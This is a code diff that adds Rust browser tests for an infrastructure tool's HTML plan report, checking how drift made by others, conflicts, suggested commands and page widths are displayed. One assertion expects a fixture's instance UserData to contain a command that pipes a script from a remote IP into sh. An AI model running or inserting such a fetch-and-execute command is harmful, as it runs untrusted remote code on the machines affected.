@@ -10,7 +10,11 @@ use tonnage_report::{PlanView, page};
 use crate::{browser::Browser, made};
 
 fn plan_page() -> (tempfile::TempDir, PathBuf) {
-    let (folder, _) = made::saved();
+    page_of("shown_in_other_forms")
+}
+
+fn page_of(case: &str) -> (tempfile::TempDir, PathBuf) {
+    let (folder, _) = made::planned(case);
     let shown = in_process(folder.path(), &["show", "plan", "-html=plan.html"]);
     assert_eq!(shown.code, 0, "{}", shown.err);
     let file = folder.path().join("plan.html");
@@ -116,6 +120,102 @@ fn light_and_dark_names_and_deep_links() {
     browser.until("(() => { const r = document.querySelector('#list > li:has(.body)').getBoundingClientRect(); return r.top >= 0 && r.top < innerHeight; })()");
     browser.picture("deep-link", false);
     assert_eq!(browser.complaints(), Vec::<String>::new());
+}
+
+#[test]
+fn what_others_did_is_shown_with_what_changed_inside_and_the_way_out() {
+    let (_folder, file) = page_of("drift_shown_in_other_forms");
+    let mut browser = Browser::open(1280, 900);
+    browser.wish("light");
+    browser.goto(&file, "");
+    browser.picture("drift", true);
+    let line = |label: &str| {
+        format!(
+            "[...document.querySelectorAll('#drift-body > li')].find(li => li.querySelector('.address').textContent === {label:?})"
+        )
+    };
+    let count = "document.querySelectorAll('#drift-body > li').length";
+    assert_eq!(browser.eval(count), json!(7));
+    assert_eq!(browser.eval("document.getElementById('drift-count').textContent"), "9 differences, 1 left alone");
+
+    // all three sides of a conflict, which comes first
+    let conflict = browser.eval("document.querySelector('#drift-body > li').innerText");
+    let conflict = conflict.as_str().expect("text");
+    for said in
+        ["conflict", "\"golden\"", "now, by somebody else", "\"mine\"", "\"silver\"", "what the file says will stand"]
+    {
+        assert!(conflict.contains(said), "{said}: {conflict}");
+    }
+
+    // a document by its properties, a script by its lines, a sentence by its words; three alike are one line
+    let inside = |selector: &str, label: &str| {
+        format!("[...{}.querySelectorAll('{selector}')].map(e => e.textContent).join('|')", line(label))
+    };
+    assert_eq!(
+        browser.eval(&inside(".inside .path", "resource.read.PolicyDocument")),
+        "Statement[0].Action[0]|Statement[0].Action[1]"
+    );
+    let script = browser.eval(&inside(".inside .line", "resource.node.LaunchTemplateData.UserData"));
+    assert!(script.as_str().is_some_and(|text| text.contains("curl -s http://198.51.100.7/x | sh")), "{script}");
+    assert_eq!(browser.eval(&inside(".inside del, .inside ins", "resource.notice.Value")), "Tuesday|Friday");
+    assert_eq!(browser.eval(&inside(".title .times", "resource.notice.Value")), "3×");
+
+    // the ways out; what is left alone says so; what was deleted is made again
+    let ways = browser.eval(&inside(".ways code", "resource.vpc.Tags[\"cost\"]"));
+    let expect = "tonnage adopt 'resource.vpc.Tags[\"cost\"]'|tonnage plan -ignore-drift 'resource.vpc.Tags[\"cost\"]'";
+    assert_eq!(ways, expect);
+    assert_eq!(browser.eval(&inside(".tag", "resource.corpus.Tags[\"team\"]")), "left alone");
+    assert_eq!(browser.eval(&inside(".ways code", "resource.door")), "tonnage adopt resource.door");
+
+    // a button that copies has the command in its name, and answers
+    let named = browser.accessible();
+    assert!(
+        named.iter().any(|(role, name)| role == "button" && name == "Copy: tonnage adopt resource.door"),
+        "{named:?}"
+    );
+    browser.click("#drift-body .copy");
+    browser.until("['copied', 'selected'].includes(document.querySelector('#drift-body .copy').textContent)");
+
+    // from there to the change, which shows the same inside; what undoes others is a filter of its own
+    browser.eval(&format!("{}.querySelector('a.address').click()", line("resource.read.PolicyDocument")));
+    browser.until("document.querySelectorAll('#list > li .body').length === 1");
+    let open = browser.eval("document.querySelector('#list > li .body').innerText");
+    let open = open.as_str().expect("text");
+    for said in [
+        "Statement[0].Action[0]",
+        "changed by others",
+        "main.fleet.hcl:26",
+        "tonnage adopt resource.read.PolicyDocument",
+    ] {
+        assert!(open.contains(said), "{said}: {open}");
+    }
+    browser.picture("drift-opened", false);
+    browser.click(".chip[data-risk=undoes_others]");
+    assert_eq!(browser.eval("document.querySelectorAll('#list > li').length"), json!(5));
+    assert_eq!(browser.complaints(), Vec::<String>::new());
+}
+
+/// Wherever it is read: nothing is cut off or stands out of the page at the side, on a telephone or a wall. What is wider
+/// scrolls by itself.
+#[test]
+fn no_width_cuts_anything_off() {
+    for case in ["drift_shown_in_other_forms", "shown_in_other_forms"] {
+        let (_folder, file) = page_of(case);
+        for (width, name) in [(360, "narrow"), (1920, "wide")] {
+            let mut browser = Browser::open(width, 900);
+            browser.wish("dark");
+            browser.goto(&file, "");
+            browser.eval("document.querySelectorAll('#list > li > button').forEach(button => button.click())");
+            let over = browser.eval("document.documentElement.scrollWidth - innerWidth");
+            browser.picture(&format!("{case}-{name}"), true);
+            assert_eq!(over, json!(0), "{case} at {width}");
+            let cut = browser.eval(
+                "[...document.querySelectorAll('main *')].filter(e => !e.closest('.scroll') && !e.closest('.hidden') \
+                 && e.getBoundingClientRect().right > innerWidth).map(e => e.className + ': ' + e.textContent)",
+            );
+            assert_eq!(cut, json!([]), "{case} at {width}");
+        }
+    }
 }
 
 #[test]
